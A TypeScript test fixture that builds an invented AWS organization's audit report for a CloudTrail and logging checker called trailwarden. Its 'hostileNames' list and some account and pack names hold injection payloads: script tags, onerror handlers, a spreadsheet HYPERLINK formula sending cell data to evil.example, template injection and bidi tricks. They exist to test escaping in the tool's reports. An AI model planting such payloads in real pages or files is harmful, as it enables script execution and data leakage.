import { createHash } from 'node:crypto';

import type {
  Evidence,
  Finding,
  FindingResource,
  Reason,
  Severity,
  Verdict,
} from '../../src/evaluate/finding.ts';
import { severities, verdicts } from '../../src/evaluate/finding.ts';
import type { PackScore } from '../../src/evaluate/score.ts';
import type { JsonValue } from '../../src/json.ts';
import type { Cause } from '../../src/model/unknown.ts';
import type { ReportHeader, ReportRule, ReportTotals } from '../../src/report/sink.ts';
import { sampleScore } from '../report/sample.ts';
import type { AccountInScope, CoverageCell } from '../../src/snapshot/manifest.ts';

/** How large the invented organization is. */
export interface ExampleSize {
  readonly accounts: number;
  /** Log groups of an account, over all its regions. */
  readonly logGroups: number;
}

export interface ExampleReport {
  readonly header: ReportHeader;
  /** Sorted by account, rule, region and resource; made one by one. */
  readonly findings: () => Generator<Finding>;
  /** Totals of all findings; runs through them once. */
  readonly totals: () => ReportTotals;
}

const regions = ['eu-central-1', 'eu-west-1', 'us-east-1'];
const management = '111122223333';
const partition = 'aws';

/** Names that try to be something else than text. */
export const hostileNames: readonly string[] = [
  '<script>document.title="owned"</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><script>window.owned=1</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '\u001b[31mred\u001b[0m\u0007',
  'user\u202egnp.exe\u202c left',
  '\u2066isolate\u2069 \u200bzero\u200bwidth',
  'x'.repeat(500),
  '💣👩‍💻🏴‍☠️',
  '&lt;b&gt;not bold&lt;/b&gt;',
  '{{constructor.constructor("owned=1")()}}',
  'javascript:alert(1)',
];

const accountNames = [
  'Management',
  'Log archive',
  'Security tooling',
  'Payments production',
  'Payments staging',
  'Storefront production',
  'Storefront staging',
  'Data platform',
  'Machine learning lab',
  'Shared network',
  'Sandbox Ana',
  'Acquired: Häberle & Söhne GmbH',
];
const paths = ['', 'Security', 'Security', 'Workloads/Production', 'Workloads/Staging'];
const services = ['lambda', 'ecs', 'apigateway', 'rds', 'codebuild', 'vpc-flow-logs', 'eks', 'glue'];
const teams = ['checkout', 'ledger', 'catalog', 'search', 'identity', 'fraud', 'shipping', 'reporting'];
const jobs = ['ingest', 'worker', 'api', 'export', 'authorizer', 'stream', 'cleanup', 'webhook'];

function rule(
  id: string,
  title: string,
  severity: Severity,
  service: string,
  resourceType: string,
  requires: readonly string[],
  why: string,
  fix: string,
): ReportRule {
  return {
    id,
    title,
    severity,
    service,
    for: resourceType,
    why,
    fix,
    references: ['https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html'],
    tags: ['audit'],
    file: `rules/${service}/${id}.yaml`,
    line: 2,
    requires,
  };
}

const rules: readonly ReportRule[] = [
  rule(
    'cloudtrail-log-file-validation',
    'Every trail validates its log files',
    'medium',
    'cloudtrail',
    'trail',
    ['cloudtrail:DescribeTrails'],
    'Without digest files nobody can show that a log file was not changed or deleted after it was delivered.',
    'Turn on log file validation: aws cloudtrail update-trail --name NAME --enable-log-file-validation',
  ),
  rule(
    'cloudtrail-multi-region',
    'A running multi-region trail records the account',
    'critical',
    'cloudtrail',
    'account',
    ['cloudtrail:DescribeTrails', 'cloudtrail:GetTrailStatus', 'cloudtrail:GetEventSelectors'],
    'What happens in a region that no trail covers leaves no record. Attackers like unused regions for that reason.',
    'Make the trail multi-region, or add the account to an organization trail.',
  ),
  rule(
    'cloudtrail-trail-is-logging',
    'Every trail is logging',
    'high',
    'cloudtrail',
    'trail',
    ['cloudtrail:DescribeTrails', 'cloudtrail:GetTrailStatus'],
    'A trail that is stopped looks like a trail in every list and records nothing.',
    'Start it: aws cloudtrail start-logging --name NAME',
  ),
  rule(
    'loggroup-retention-minimum',
    'Log groups keep events for at least 365 days',
    'low',
    'logs',
    'log-group',
    ['logs:DescribeLogGroups'],
    'Intrusions are found months after they began; the events of those months are then needed.',
    'Set a longer retention: aws logs put-retention-policy --log-group-name NAME --retention-in-days 365',
  ),
  rule(
    'loggroup-retention-set',
    'Every log group has a retention',
    'low',
    'logs',
    'log-group',
    ['logs:DescribeLogGroups'],
    'Events that never expire cost money and keep personal data longer than anybody agreed to.',
    'Set a retention: aws logs put-retention-policy --log-group-name NAME --retention-in-days 365',
  ),
  rule(
    'monitor-root-usage',
    'Somebody is told when the root user is used',
    'high',
    'cloudwatch',
    'account',
    [
      'cloudtrail:DescribeTrails',
      'cloudtrail:GetEventSelectors',
      'cloudtrail:GetTrailStatus',
      'cloudwatch:DescribeAlarms',
      'logs:DescribeMetricFilters',
      'sns:ListSubscriptionsByTopic',
    ],
    'The root user can do anything and is hardly ever needed. Its use is either an emergency or an intrusion.',
    'Add a metric filter for root use to the log group of the trail, an alarm on its metric, and a topic with a confirmed subscription.',
  ),
  rule(
    'org-every-active-account-covered',
    'Every active account is recorded by a trail',
    'critical',
    'organizations',
    'account',
    ['cloudtrail:DescribeTrails', 'organizations:ListAccounts'],
    'An account that nobody records is the place where everything else can be prepared.',
    'Make the organization trail cover the account.',
  ),
];

function digest(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** The same number from 0 to `below` - 1 for the same words, on every machine. */
function pick(below: number, ...words: readonly (string | number)[]): number {
  return Number.parseInt(digest(words.join('/')).slice(0, 8), 16) % below;
}

function at<T>(list: readonly T[], index: number): T {
  const element = list[index % list.length];
  if (element === undefined) throw new Error('an empty list');
  return element;
}

interface Place {
  readonly account: AccountInScope;
  readonly index: number;
}

function evidence(
  place: Place,
  call: string,
  region: string,
  path: string,
  more: { readonly value?: JsonValue; readonly page?: number; readonly error?: string } = {},
): Evidence {
  const id = digest(`${place.account.id}/${call}/${region}/${more.page ?? 0}`);
  const minute = pick(10, id, 'minute');
  const second = pick(60, id, 'second');
  return {
    call,
    account: place.account.id,
    region,
    time: `2026-10-01T06:0${minute}:${String(second).padStart(2, '0')}.${String(pick(1000, id, 'ms')).padStart(3, '0')}Z`,
    requestId: `${id.slice(0, 8)}-${id.slice(8, 12)}-4${id.slice(13, 16)}-8${id.slice(17, 20)}-${id.slice(20, 32)}`,
    part: `accounts/${place.account.id}.ndjson.gz`,
    line: 1 + pick(400, id, 'line'),
    path,
    ...(more.value !== undefined && { value: more.value }),
    ...(more.error !== undefined && { error: more.error }),
  };
}

function denied(place: Place, call: `${string}:${string}`, region: string): Cause {
  return {
    call,
    account: place.account.id,
    region,
    code: 'AccessDenied',
    message: `User: arn:aws:sts::${place.account.id}:assumed-role/audit/trailwarden is not authorized to perform: ${call} because no identity-based policy allows the ${call} action`,
  };
}

function finding(
  place: Place,
  ruleId: string,
  verdict: Verdict,
  resource: FindingResource,
  message: string,
  reasons: Reason,
  more: Partial<Finding> = {},
): Finding {
  const known = rules.find((candidate) => candidate.id === ruleId);
  if (known === undefined) throw new Error(`no rule ${ruleId}`);
  return {
    rule: ruleId,
    verdict,
    severity: known.severity,
    resource,
    message,
    fix:
      verdict === 'fail'
        ? known.fix.replaceAll('NAME', () => `'${resource.name}'`)
        : verdict === 'unknown'
          ? `Let the scanning role make the calls that were refused in account ${place.account.id}, then scan again.`
          : '',
    parameters: ruleId === 'loggroup-retention-minimum' ? { minimumDays: 365 } : {},
    reasons,
    evidence: evidenceOf(reasons),
    waiver: null,
    baseline: null,
    fingerprint: digest(`v1|${ruleId}|${partition}|${resource.account}|${resource.region}|${resource.id}`),
    ...more,
  };
}

function evidenceOf(reason: Reason): Evidence[] {
  return [...(reason.evidence ?? []), ...(reason.children ?? []).flatMap(evidenceOf)];
}

function accountResource({ account }: Place): FindingResource {
  return {
    type: 'account',
    id: account.id,
    account: account.id,
    region: 'global',
    name: account.name ?? account.id,
  };
}

function trail(accountId: string, name: string, region: string): FindingResource {
  return {
    type: 'trail',
    id: `arn:aws:cloudtrail:${region}:${accountId}:trail/${name}`,
    account: accountId,
    region,
    name,
  };
}

const rootEvent = (account: string): JsonValue => ({
  eventVersion: '1.11',
  userIdentity: {
    type: 'Root',
    principalId: account,
    arn: `arn:aws:iam::${account}:root`,
    accountId: account,
  },
  eventTime: '2026-01-01T00:00:00Z',
  eventSource: 'kms.amazonaws.com',
  eventName: 'ScheduleKeyDeletion',
  awsRegion: 'eu-west-1',
  eventType: 'AwsApiCall',
  managementEvent: true,
  readOnly: false,
  recipientAccountId: account,
});

/** The chain from the trail to the subscriber, broken (or not known) at a link. */
function chain(place: Place, broken: 'none' | 'filter' | 'alarm' | 'subscriber', lost: boolean): Reason {
  const { account } = place;
  const home = 'eu-central-1';
  const order = ['trail', 'log group', 'filter', 'alarm', 'topic', 'subscriber'] as const;
  const breakAt = broken === 'none' ? order.length : order.indexOf(broken);
  const resourceOf = (type: string, id: string, name: string): Reason['resource'] => ({
    type,
    id,
    account: management,
    region: home,
    name,
  });
  const arn = (service: string, rest: string): string => `arn:aws:${service}:${home}:${management}:${rest}`;
  const details: Record<
    (typeof order)[number],
    { good: string; bad: string; resource: Reason['resource']; call: string; path: string; value: JsonValue }
  > = {
    trail: {
      good: 'trail org-trail is multi-region, is logging and records management events of this account',
      bad: 'no trail records this account',
      resource: resourceOf('trail', arn('cloudtrail', 'trail/org-trail'), 'org-trail'),
      call: 'cloudtrail:DescribeTrails',
      path: 'trailList[0].IsMultiRegionTrail',
      value: true,
    },
    'log group': {
      good: 'it delivers to log group aws-cloudtrail-logs',
      bad: 'it delivers to no log group',
      resource: resourceOf('log-group', arn('logs', 'log-group:aws-cloudtrail-logs'), 'aws-cloudtrail-logs'),
      call: 'cloudtrail:DescribeTrails',
      path: 'trailList[0].CloudWatchLogsLogGroupArn',
      value: arn('logs', 'log-group:aws-cloudtrail-logs:*'),
    },
    filter: {
      good: 'metric filter RootUsage matches root events',
      bad: 'metric filter RootUsage leaves out events of kms.amazonaws.com: { $.userIdentity.type = "Root" && $.eventSource != "kms.amazonaws.com" }',
      resource: resourceOf('metric-filter', 'aws-cloudtrail-logs/RootUsage', 'RootUsage'),
      call: 'logs:DescribeMetricFilters',
      path: 'metricFilters[3].filterPattern',
      value: '{ $.userIdentity.type = "Root" && $.eventSource != "kms.amazonaws.com" }',
    },
    alarm: {
      good: 'alarm root-usage watches its metric and its actions are on',
      bad: 'alarm root-usage has no alarm action',
      resource: resourceOf('alarm', arn('cloudwatch', 'alarm:root-usage'), 'root-usage'),
      call: 'cloudwatch:DescribeAlarms',
      path: 'MetricAlarms[12].AlarmActions',
      value: [],
    },
    topic: {
      good: 'topic security-alerts exists',
      bad: 'topic security-alerts does not exist',
      resource: resourceOf('topic', arn('sns', 'security-alerts'), 'security-alerts'),
      call: 'sns:GetTopicAttributes',
      path: 'Attributes.TopicArn',
      value: arn('sns', 'security-alerts'),
    },
    subscriber: {
      good: 'one confirmed subscription: email, on-call@example.com',
      bad: 'the only subscription was never confirmed (PendingConfirmation)',
      resource: resourceOf(
        'subscription',
        `${arn('sns', 'security-alerts')}/on-call@example.com`,
        'on-call@example.com',
      ),
      call: 'sns:ListSubscriptionsByTopic',
      path: 'Subscriptions[0].SubscriptionArn',
      value: 'PendingConfirmation',
    },
  };
  const links = order.slice(0, breakAt + 1).map((link, index): Reason => {
    const { good, bad, resource, call, path, value } = details[link];
    const verdict = index < breakAt ? 'pass' : lost ? 'unknown' : 'fail';
    const where: Place = { account: { id: management, scan: 'collected' }, index: 0 };
    return {
      kind: 'link',
      verdict,
      text: verdict === 'fail' ? bad : verdict === 'unknown' ? `whether ${link} holds is not known` : good,
      ...(resource !== undefined && { resource }),
      evidence: [evidence(where, call, home, path, verdict === 'fail' || link !== 'filter' ? { value } : {})],
      ...(verdict === 'unknown' && { causes: [denied(where, 'cloudwatch:DescribeAlarms', home)] }),
    };
  });
  const verdict = broken === 'none' ? 'pass' : lost ? 'unknown' : 'fail';
  const path: Reason = {
    kind: 'path',
    verdict,
    text: `metric filter and alarm, by way of ${links.length} of ${order.length} links`,
    children: links,
  };
  const short: Reason = {
    kind: 'path',
    verdict: 'fail',
    text: 'metric filter and alarm, by way of trail local',
    children: [
      {
        kind: 'link',
        verdict: 'fail',
        text: `trail local of account ${account.id} records one region only`,
        resource: {
          type: 'trail',
          id: trail(account.id, 'local', 'eu-west-1').id,
          account: account.id,
          region: 'eu-west-1',
          name: 'local',
        },
        evidence: [
          evidence(place, 'cloudtrail:DescribeTrails', 'eu-west-1', 'trailList[1].IsMultiRegionTrail', {
            value: false,
          }),
        ],
      },
    ],
  };
  return {
    kind: 'is',
    verdict,
    text: verdict === 'pass' ? 'root-usage is alarmed' : 'root-usage is not known to be alarmed in full',
    children: [
      {
        kind: 'together',
        verdict,
        text:
          verdict === 'fail'
            ? 'not every event of root-usage reaches a subscriber'
            : verdict === 'unknown'
              ? 'whether every event of root-usage reaches a subscriber is not known'
              : 'every event of root-usage reaches a subscriber',
        ...(verdict === 'fail' && { witness: rootEvent(account.id) }),
        children: verdict === 'pass' ? [path] : [path, short],
        ...(verdict !== 'pass' && { omitted: 2 }),
      },
    ],
  };
}

function* findingsOf(place: Place, size: ExampleSize): Generator<Finding> {
  const { account, index } = place;
  const self = accountResource(place);
  const named = `account ${account.name ?? ''} (${account.id})`;
  const seen = account.scan === 'collected';
  const unseen = (text: string): Reason => ({
    kind: 'every',
    verdict: 'unknown',
    text,
    causes: [
      {
        call: 'sts:AssumeRole',
        account: account.id,
        region: 'global',
        code: account.scan === 'not-active' ? 'NotScanned' : 'AccessDenied',
        message: account.reason ?? 'the account was not scanned',
      },
    ],
  });
  const regional = !seen
    ? []
    : [trail(account.id, index % 3 === 0 ? 'main' : `trail-${account.name ?? ''}`, 'eu-west-1')];
  for (const resource of regional) {
    const on = index % 4 !== 1;
    yield finding(
      place,
      'cloudtrail-log-file-validation',
      on ? 'pass' : 'fail',
      resource,
      `Trail ${resource.name} in ${named} ${on ? 'validates' : 'does not validate'} its log files.`,
      {
        kind: 'field',
        verdict: on ? 'pass' : 'fail',
        text: `LogFileValidationEnabled is ${String(on)}`,
        field: 'LogFileValidationEnabled',
        found: on,
        wanted: 'true',
        evidence: [
          evidence(
            place,
            'cloudtrail:DescribeTrails',
            resource.region,
            'trailList[1].LogFileValidationEnabled',
            {
              value: on,
            },
          ),
        ],
      },
    );
  }
  const regionLimited = index % 5 === 3;
  const multi: Verdict = seen ? (regionLimited ? 'fail' : 'pass') : 'unknown';
  yield finding(
    place,
    'cloudtrail-multi-region',
    account.scan === 'not-active' ? 'not-applicable' : multi,
    self,
    multi === 'unknown'
      ? `Whether a running multi-region trail records ${named} is not known.`
      : `${multi === 'pass' ? 'A' : 'No'} running multi-region trail records ${named}.`,
    seen
      ? {
          kind: 'some',
          verdict: multi === 'pass' ? 'pass' : 'fail',
          text: multi === 'pass' ? '1 of 2 trails holds' : 'none of 2 trails holds',
          children: [
            {
              kind: 'all',
              verdict: multi === 'pass' ? 'pass' : 'fail',
              text: regionLimited ? 'trail main lacks IsMultiRegionTrail' : 'trail org-trail holds',
              resource: trail(account.id, 'main', 'eu-west-1'),
              children: [
                {
                  kind: 'field',
                  verdict: regionLimited ? 'fail' : 'pass',
                  text: `IsMultiRegionTrail is ${String(!regionLimited)}`,
                  field: 'IsMultiRegionTrail',
                  found: !regionLimited,
                  wanted: 'true',
                  evidence: [
                    evidence(
                      place,
                      'cloudtrail:DescribeTrails',
                      'eu-west-1',
                      'trailList[0].IsMultiRegionTrail',
                      {
                        value: !regionLimited,
                      },
                    ),
                  ],
                },
                {
                  kind: 'field',
                  verdict: 'pass',
                  text: 'status.IsLogging is true',
                  field: 'status.IsLogging',
                  found: true,
                  wanted: 'true',
                  evidence: [
                    evidence(place, 'cloudtrail:GetTrailStatus', 'eu-west-1', 'IsLogging', { value: true }),
                  ],
                },
              ],
            },
          ],
        }
      : unseen('the trails of the account are not known'),
  );
  for (const resource of regional) {
    const on = index % 6 !== 2;
    yield finding(
      place,
      'cloudtrail-trail-is-logging',
      on ? 'pass' : 'fail',
      resource,
      `Trail ${resource.name} in ${named} ${on ? 'is logging' : 'is stopped since 2026-08-14'}.`,
      {
        kind: 'field',
        verdict: on ? 'pass' : 'fail',
        text: `status.IsLogging is ${String(on)}`,
        field: 'status.IsLogging',
        found: on,
        wanted: 'true',
        evidence: [evidence(place, 'cloudtrail:GetTrailStatus', resource.region, 'IsLogging', { value: on })],
      },
      index % 12 === 8
        ? {
            waiver: {
              reason: 'The lab is torn down each night and its trail with it; agreed for the pilot.',
              owner: 'ana@example.com',
              ticket: 'SEC-418',
              expires: '2027-01-31',
            },
          }
        : {},
    );
  }
  const groups = seen ? logGroups(place, size.logGroups) : [];
  for (const ruleId of ['loggroup-retention-minimum', 'loggroup-retention-set'] as const) {
    for (const { resource, days, position, page } of groups) {
      const pass = days !== undefined && (ruleId === 'loggroup-retention-set' || days >= 365);
      const kept = days === undefined ? 'for ever' : `for ${days} days`;
      yield finding(
        place,
        ruleId,
        pass ? 'pass' : 'fail',
        resource,
        `Log group ${resource.name} in ${named} keeps events ${kept}.`,
        {
          kind: 'field',
          verdict: pass ? 'pass' : 'fail',
          text: `retentionInDays is ${days === undefined ? 'absent' : days}`,
          field: 'retentionInDays',
          ...(days !== undefined && { found: days }),
          wanted: ruleId === 'loggroup-retention-set' ? 'present' : 'at least 365',
          evidence: [
            evidence(
              place,
              'logs:DescribeLogGroups',
              resource.region,
              `logGroups[${position}].retentionInDays`,
              {
                page,
                ...(days !== undefined && { value: days }),
              },
            ),
          ],
        },
      );
    }
    if (seen && index % 7 === 5)
      yield finding(
        place,
        ruleId,
        'unknown',
        {
          type: 'log-group',
          id: `${account.id}/us-east-1`,
          account: account.id,
          region: 'us-east-1',
          name: `${account.id}/us-east-1`,
        },
        `The log groups of ${named} in us-east-1 are not known.`,
        {
          kind: 'every',
          verdict: 'unknown',
          text: 'the list of log groups is not known',
          causes: [denied(place, 'logs:DescribeLogGroups', 'us-east-1')],
          evidence: [
            evidence(place, 'logs:DescribeLogGroups', 'us-east-1', '', { error: 'AccessDeniedException' }),
          ],
        },
      );
  }
  const broken = (['none', 'filter', 'none', 'alarm', 'subscriber', 'filter'] as const)[index % 6] ?? 'none';
  const reasons = seen ? chain(place, broken, index % 9 === 4) : unseen('the account was not scanned');
  yield finding(
    place,
    'monitor-root-usage',
    account.scan === 'not-active' ? 'not-applicable' : reasons.verdict,
    self,
    reasons.verdict === 'pass'
      ? `Use of the root user of ${named} raises an alarm.`
      : reasons.verdict === 'fail'
        ? `Use of the root user of ${named} goes unnoticed in part: the ${broken} is where the chain breaks.`
        : `Whether somebody is told of root use in ${named} is not known.`,
    reasons,
  );
  yield finding(
    place,
    'org-every-active-account-covered',
    account.scan === 'not-active' ? 'not-applicable' : seen ? 'pass' : 'unknown',
    self,
    seen ? `${named} is recorded by trail org-trail.` : `Whether ${named} is recorded is not known.`,
    seen
      ? {
          kind: 'some',
          verdict: 'pass',
          text: '1 of 1 trails holds',
          evidence: [evidence(place, 'cloudtrail:DescribeTrails', 'eu-central-1', 'trailList[0]')],
        }
      : unseen('the account was not scanned'),
  );
}

interface ExampleLogGroup {
  readonly resource: FindingResource;
  readonly days: number | undefined;
  readonly position: number;
  readonly page: number;
}

function logGroups({ account, index }: Place, count: number): ExampleLogGroup[] {
  const all: Omit<ExampleLogGroup, 'position' | 'page'>[] = [];
  for (let number = 0; number < count; number += 1) {
    const region = at(regions, number);
    const hostile = index % 12 === 10 ? hostileNames[number] : undefined;
    const name =
      hostile ??
      `/aws/${at(services, pick(8, index, number, 's'))}/${at(teams, pick(8, index, number, 't'))}-${at(jobs, pick(8, index, number, 'j'))}-${digest(`${index}/${number}`).slice(0, 6)}`;
    const days = [undefined, 7, 30, 90, 365, 731, 365, 400][pick(8, index, number, 'd')];
    all.push({
      resource: {
        type: 'log-group',
        id: `arn:aws:logs:${region}:${account.id}:log-group:${name}`,
        account: account.id,
        region,
        name,
      },
      days,
    });
  }
  all.sort((a, b) => compare(a.resource.region, b.resource.region) || compare(a.resource.id, b.resource.id));
  return all.map((group, place) => ({ ...group, position: place % 50, page: Math.floor(place / 50) }));
}

function compare(a: string, b: string): number {
  return a < b ? -1 : a > b ? 1 : 0;
}

/** An invented organization with the faults that real ones have, for looking at reports and for measuring them. */
export function exampleReport(size: ExampleSize = { accounts: 12, logGroups: 18 }): ExampleReport {
  const accounts: AccountInScope[] = [];
  for (let index = 0; index < size.accounts; index += 1) {
    const suffix = index < accountNames.length ? '' : ` ${Math.floor(index / accountNames.length)}`;
    const base = {
      id: index === 0 ? management : String(222_233_330_000 + index * 7919),
      name:
        index % 12 === 10
          ? `Sandbox <b>Ana</b> \u202eanA\u202c${suffix}`
          : `${at(accountNames, index)}${suffix}`,
      path: at(paths, index),
    };
    if (index % 12 === 11)
      accounts.push({ ...base, state: 'SUSPENDED', scan: 'not-active', reason: 'the account is suspended' });
    else if (index % 12 === 6)
      accounts.push({
        ...base,
        state: 'ACTIVE',
        scan: 'not-reachable',
        reason: `AssumeRole was denied: arn:aws:iam::${base.id}:role/trailwarden`,
      });
    else
      accounts.push({
        ...base,
        state: 'ACTIVE',
        scan: 'collected',
        regions,
        regionsFrom: 'account:ListRegions',
      });
  }
  accounts.sort((a, b) => compare(a.id, b.id));
  const numbered: Place[] = accounts.map((account, index) => ({
    account,
    index:
      account.scan === 'not-active'
        ? 11
        : account.scan === 'not-reachable'
          ? 6
          : account.name?.startsWith('Sandbox <b>')
            ? 10
            : index,
  }));
  const ids = accounts.map((account) => account.id);
  const collected = accounts.filter((account) => account.scan === 'collected').map((account) => account.id);
  const unreachable = accounts
    .filter((account) => account.scan === 'not-reachable')
    .map((account) => account.id);
  const inactive = accounts.filter((account) => account.scan === 'not-active').map((account) => account.id);
  const partly = numbered
    .filter(({ account, index }) => account.scan === 'collected' && index % 7 === 5)
    .map(({ account }) => account.id);
  const operations = [...new Set(rules.flatMap((known) => known.requires))].sort() as `${string}:${string}`[];
  const coverage: CoverageCell[] = operations.flatMap((operation): CoverageCell[] => {
    if (operation.startsWith('organizations:'))
      return [{ operation, outcome: 'obtained', accounts: [management], regions: ['global'] }];
    const refused = operation === 'logs:DescribeLogGroups' ? partly : [];
    const cells: CoverageCell[] = [
      { operation, outcome: 'obtained', accounts: collected.filter((id) => !refused.includes(id)), regions },
    ];
    if (refused.length > 0)
      cells.push(
        { operation, outcome: 'obtained', accounts: refused, regions: ['eu-central-1', 'eu-west-1'] },
        {
          operation,
          outcome: 'denied',
          accounts: refused,
          regions: ['us-east-1'],
          code: 'AccessDeniedException',
          cause:
            'User: arn:aws:sts::000000000000:assumed-role/audit/trailwarden is not authorized to perform: logs:DescribeLogGroups',
          principal: 'arn:aws:sts::000000000000:assumed-role/audit/trailwarden',
        },
      );
    if (operation === 'cloudwatch:DescribeAlarms' && collected[4] !== undefined)
      cells.push({
        operation,
        outcome: 'throttled',
        accounts: [collected[4]],
        regions: ['ap-southeast-2'],
        code: 'ThrottlingException',
        cause: 'Rate exceeded',
      });
    cells.push(
      {
        operation,
        outcome: 'denied',
        accounts: unreachable,
        regions,
        code: 'AccessDenied',
        cause: 'AssumeRole was denied',
      },
      { operation, outcome: 'not-asked', accounts: inactive, regions, cause: 'the account is suspended' },
    );
    return cells.filter((cell) => cell.accounts.length > 0);
  });
  const parts = [null, ...collected].map((account) => ({
    file: account === null ? 'organization.ndjson.gz' : `accounts/${account}.ndjson.gz`,
    account,
    records: account === null ? 14 : 390,
    bytes: account === null ? 4100 : 38_200,
    sha256: digest(`part ${account ?? 'organization'}`),
  }));
  const header: ReportHeader = {
    tool: { name: 'trailwarden', version: '0.1.0' },
    rules,
    packs: [],
    manifest: {
      format: 'trailwarden-snapshot',
      version: 1,
      tool: { name: 'trailwarden', version: '0.1.0' },
      caller: { arn: `arn:aws:sts::${management}:assumed-role/audit/trailwarden`, account: management },
      partition,
      organization: { id: 'o-examplecorp', managementAccount: management },
      start: '2026-10-01T06:00:00.000Z',
      end: '2026-10-01T06:12:41.387Z',
      finished: true,
      accounts,
      coverage,
      parts,
      rootHash: digest(`root ${ids.join(' ')}`),
      notices: ['2 accounts could not be reached: their findings are unknown.'],
    },
  };
  function* findings(): Generator<Finding> {
    for (const place of numbered) yield* findingsOf(place, size);
  }
  return {
    header,
    findings,
    totals() {
      const byVerdict = Object.fromEntries(verdicts.map((verdict) => [verdict, 0])) as Record<
        Verdict,
        number
      >;
      const failures = Object.fromEntries(severities.map((severity) => [severity, 0])) as Record<
        Severity,
        number
      >;
      let waived = 0;
      let count = 0;
      for (const { verdict, severity, waiver } of findings()) {
        count += 1;
        byVerdict[verdict] += 1;
        if (waiver !== null) waived += 1;
        else if (verdict === 'fail') failures[severity] += 1;
      }
      return {
        findings: count,
        byVerdict,
        failuresBySeverity: failures,
        waived,
        notices: [],
        complete: false,
        scores: exampleScores,
      };
    },
  };
}

/** Two packs with a control in each state; names as hostile as a user's own pack may have. */
const exampleScores: readonly PackScore[] = [
  sampleScore('CIS AWS Foundations Benchmark v5.0.0', 'monitor-root-usage'),
  { ...sampleScore('<img src=x onerror="owned=1"> \u202e</script> framework of our own'), pack: 'our-own-1' },
];
